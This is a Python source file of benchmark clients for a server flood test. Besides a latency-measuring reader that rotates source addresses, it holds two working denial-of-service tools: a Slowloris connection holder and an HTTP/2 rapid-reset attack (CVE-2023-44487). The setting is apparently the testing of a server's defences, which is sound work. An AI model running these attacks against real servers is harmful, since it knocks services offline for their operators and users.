#!/usr/bin/env python3
"""Clients for bench/flood.sh (issue 18).

reader SRC HOST PORT PATH SECONDS RATE THREADS OUT.json
    a legitimate reader from source address SRC (or SRC,SRC,... taken in turn by the threads):
    THREADS keep-alive connections, each asking PATH at RATE/THREADS requests a second (paced; a
    late request goes at once; RATE 0: unpaced, as fast as the answers come), for SECONDS.
    SRC A.B.C.* is a crowd: the thread moves to the next address of that /24 every 500 requests.
    Writes latencies (ms) of 2xx answers, counts of other statuses and connection errors.
slowloris SRC_PREFIX ADDRS HOST PORT CONNS SECONDS INTERVAL
    CONNS connections from ADDRS source addresses SRC_PREFIX.1..ADDRS, each sending a request
    line then one header byte every INTERVAL s; a closed one is reopened (at most CONNS/4 a tick).
reset SRC HOST PORT PATH SECONDS CONNS
    HTTP/2 rapid reset (CVE-2023-44487) over h2c prior knowledge from SRC: on CONNS connections,
    HEADERS then RST_STREAM at once, as fast as possible, for SECONDS; reconnects when closed.
"""
import json, socket, sys, threading, time, http.client, selectors, errno


ROTATE = 500


def reader(src, host, port, path, seconds, rate, threads, out):
    lat, status, errors = [], {}, [0]
    lock = threading.Lock()
    end = time.monotonic() + seconds
    # rate 0: unpaced, each thread asks again as soon as it has its answer.
    period = threads / rate if rate > 0 else 0.0
    # src: one address, or several comma-separated, taken in turn by the threads; A.B.C.*
    # stands for a crowd in that /24: the thread moves to the next address (A.B.C.2 to .251,
    # a new connection) every ROTATE requests, so that no address asks more than a reader would.
    sources = src.split(",")

    def addresses(src):
        if not src.endswith(".*"):
            while True:
                yield src
        while True:
            for k in range(2, 252):
                yield f"{src[:-2]}.{k}"

    def run(src):
        conn = None
        nxt = time.monotonic()
        source = addresses(src)
        src = next(source)
        asked = 0
        while True:
            now = time.monotonic()
            if now >= end:
                break
            asked += 1
            if asked % ROTATE == 0 and (moved := next(source)) != src:
                src = moved
                if conn is not None:
                    conn.close(); conn = None
            if nxt > now:
                time.sleep(nxt - now)
            nxt += period
            t0 = time.monotonic()
            try:
                if conn is None:
                    conn = http.client.HTTPConnection(host, port, timeout=10, source_address=(src, 0))
                conn.request("GET", path)
                r = conn.getresponse()
                r.read()
                ms = (time.monotonic() - t0) * 1000
                with lock:
                    if 200 <= r.status < 300:
                        lat.append(ms)
                    else:
                        status[str(r.status)] = status.get(str(r.status), 0) + 1
                if r.getheader("connection", "").lower() == "close":
                    conn.close(); conn = None
            except Exception:
                with lock:
                    errors[0] += 1
                if conn is not None:
                    conn.close()
                conn = None
                time.sleep(0.01)

    ts = [threading.Thread(target=run, args=(sources[i % len(sources)],)) for i in range(threads)]
    start = time.monotonic()
    for t in ts: t.start()
    for t in ts: t.join()
    dur = time.monotonic() - start
    lat.sort()
    q = lambda p: lat[min(len(lat) - 1, int(p * len(lat)))] if lat else float("nan")
    res = {"ok": len(lat), "seconds": dur, "rps": len(lat) / dur, "p50": q(0.5), "p99": q(0.99),
           "refused": sum(status.values()), "status": status, "errors": errors[0]}
    json.dump(res, open(out, "w"))
    print(json.dumps(res))


def slowloris(prefix, addrs, host, port, conns, seconds, interval):
    sel = selectors.DefaultSelector()
    socks = {}
    opened = [0]; closed = [0]
    k = [0]

    def open_one():
        src = f"{prefix}.{1 + k[0] % addrs}"; k[0] += 1
        s = socket.socket(); s.setblocking(False)
        try:
            s.bind((src, 0))
            s.connect_ex((host, port))
        except OSError:
            s.close(); return
        socks[s.fileno()] = (s, 0)
        sel.register(s, selectors.EVENT_READ)
        opened[0] += 1

    end = time.monotonic() + seconds
    while len(socks) < conns:
        open_one()
    while time.monotonic() < end:
        tick = time.monotonic() + interval
        while time.monotonic() < tick:
            for key, _ in sel.select(timeout=max(0, tick - time.monotonic())):
                s = key.fileobj
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:  # closed by the server
                    sel.unregister(s); socks.pop(s.fileno(), None); s.close(); closed[0] += 1
        for fd, (s, n) in list(socks.items()):
            try:
                s.send(b"GET / HTTP/1.1\r\nHost: x\r\n" if n == 0 else b"X")
                socks[fd] = (s, n + 1)
            except OSError:
                sel.unregister(s); socks.pop(fd, None); s.close(); closed[0] += 1
        for _ in range(min(conns - len(socks), conns // 4)):
            open_one()
    print(json.dumps({"opened": opened[0], "closed_by_server": closed[0], "open_at_end": len(socks)}))


def reset(src, host, port, path, seconds, conns):
    import h2.connection, h2.config, h2.events
    end = time.monotonic() + seconds
    sent = [0]; conn_count = [0]; goaway = [0]

    def run():
        while time.monotonic() < end:
            try:
                s = socket.create_connection((host, port), timeout=5, source_address=(src, 0))
            except OSError:
                time.sleep(0.05); continue
            conn_count[0] += 1
            c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            hdrs = [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", host)]
            # A connection the server resets at once (a penalty box) fails here or below: the
            # attacker connects again, as a real one would.
            try:
                c.initiate_connection(); s.sendall(c.data_to_send())
                s.setblocking(False)
                while time.monotonic() < end:
                    for _ in range(100):
                        sid = c.get_next_available_stream_id()
                        c.send_headers(sid, hdrs, end_stream=True)
                        c.reset_stream(sid)
                    s.setblocking(True); s.sendall(c.data_to_send()); s.setblocking(False)
                    sent[0] += 100  # counted once written
                    try:
                        data = s.recv(65536)
                        if not data:
                            break
                        for ev in c.receive_data(data):
                            if isinstance(ev, h2.events.ConnectionTerminated):
                                goaway[0] += 1; raise OSError("goaway")
                        s.setblocking(True); s.sendall(c.data_to_send()); s.setblocking(False)
                    except BlockingIOError:
                        pass
            except Exception:
                pass
            s.close()

    ts = [threading.Thread(target=run) for _ in range(conns)]
    for t in ts: t.start()
    for t in ts: t.join()
    print(json.dumps({"streams_reset": sent[0], "connections": conn_count[0], "goaways": goaway[0]}))


if __name__ == "__main__":
    cmd, a = sys.argv[1], sys.argv[2:]
    if cmd == "reader":
        reader(a[0], a[1], int(a[2]), a[3], float(a[4]), float(a[5]), int(a[6]), a[7])
    elif cmd == "slowloris":
        slowloris(a[0], int(a[1]), a[2], int(a[3]), int(a[4]), float(a[5]), float(a[6]))
    elif cmd == "reset":
        reset(a[0], a[1], int(a[2]), a[3], float(a[4]), int(a[5]))
